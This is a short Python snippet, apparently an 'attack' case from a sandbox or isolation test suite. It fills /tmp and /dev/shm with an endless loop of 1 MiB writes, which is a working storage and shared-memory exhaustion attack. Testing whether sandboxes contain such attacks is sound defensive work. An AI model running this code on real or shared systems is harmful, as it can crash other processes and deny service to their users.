# Fills the private /tmp and shared memory.
# %% attack
import os
for place in ("/tmp", "/dev/shm"):
    try:
        with open(f"{place}/fill", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
